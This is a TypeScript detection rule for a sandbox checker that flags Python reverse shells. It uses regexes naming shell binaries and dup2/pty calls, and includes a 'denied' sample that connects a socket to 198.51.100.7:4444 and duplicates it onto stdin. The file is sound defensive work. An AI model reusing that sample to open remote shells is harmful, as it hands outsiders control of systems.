import { isText } from '../../known-values.ts';
import type { PythonRule } from '../../rule.ts';

const shells = /^(?:\/usr)?\/bin\/(?:ba|z|da|k)?sh(?: -i)?$|^(?:ba|z)?sh -i$|^cmd\.exe$|^powershell/;
const plumbing = /^(?:os\.dup2|pty\.spawn|os\.openpty|pty\.fork)$/;

export const reverseShell: PythonRule = {
  id: 'py-reverse-shell',
  severity: 'high',
  title: 'It connects a shell to the network.',
  cause: 'Whoever is at the other end has a prompt in the sandbox.',
  explanation: 'A connection together with `os.dup2`, `pty.spawn` or a shell that is started by its path.',
  hint: 'Leave it out; sandboxes have no network.',
  denied:
    'import os, socket\ns = socket.socket()\ns.connect(("198.51.100.7", 4444))\nos.dup2(s.fileno(), 0)\n',
  allowed: 'import socket\ns = socket.socket()\ns.connect(("example.org", 80))\n',
  *find({ calls, texts, usesNetwork, runsCommands }) {
    if (!usesNetwork) return;
    for (const { node, reference } of calls) if (plumbing.test(reference)) yield { node };
    if (!runsCommands) return;
    for (const { node, text } of texts) if (isText(text) && shells.test(text)) yield { node };
  },
};
